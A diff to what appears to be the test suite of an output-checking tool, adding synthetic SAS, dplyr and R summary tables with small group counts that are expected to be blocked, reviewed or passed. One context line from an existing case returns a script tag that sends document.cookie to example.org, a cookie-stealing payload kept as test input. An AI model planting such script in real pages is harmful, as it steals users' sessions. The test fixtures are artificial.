@@ -4136,4 +4136,40 @@ def _(path, rng):
     return rows + "<script>fetch('https://example.org/?' + document.cookie)</script>\n"
 
 
+def _sas_means_by_class(carriers: int) -> str:
+    rule = "                " + "-" * 87 + "\n"
+    head = ("                carrier    N Obs     N            Mean         Std Dev"
+            "         Minimum         Maximum\n")  # fmt: skip
+    rows = [f"                      0      {300 - carriers:3d}   {300 - carriers:3d}       "
+            "3.2310811       0.8012345       1.1000000       7.9000000\n",
+            f"                      1      {carriers:3d}   {carriers:3d}       2.1250000       "
+            "0.4112345       1.7000000       2.6000000\n"]  # fmt: skip
+    return ("                                The MEANS Procedure\n\n"
+            "                               Analysis Variable : ldl\n\n"
+            + head + rule + rows[0] + "\n" + rows[1] + rule)  # fmt: skip
+
+
+@case("sas_means_class.lst", Expect.BLOCK, "PROC MEANS by carrier, 4 carriers, blank lines", E)
+def _(path, rng):
+    return _sas_means_by_class(4)
+
+
+@case("sas_means_class_safe.lst", Expect.REVIEW, "PROC MEANS by carrier, 40 carriers", F)
+def _(path, rng):
+    return _sas_means_by_class(40)
+
+
+@case("dplyr_summarise_safe.txt", Expect.REVIEW, "a tibble of n and mean LDL by carrier 0/1", F)
+def _(path, rng):
+    return ("# A tibble: 2 × 3\n  carrier     n mean_ldl\n    <dbl> <int>    <dbl>\n"
+            "1       0   260     3.23\n2       1    40     2.13\n")  # fmt: skip
+
+
+@case("r_aggregate_safe.txt", Expect.PASS, "R's print of aggregate(): row names 1 and 2", F)
+def _(path, rng):
+    return ("> aggregate(ldl ~ carrier, data = df, FUN = function(x) c(n = length(x)))\n"
+            "  carrier ldl.n ldl.mean\n1       0 260.000 3.231081\n"
+            "2       1  40.000 2.125000\n")  # fmt: skip
+
+
 CASES: list[Case] = [c for c, _ in _WRITERS.values()]
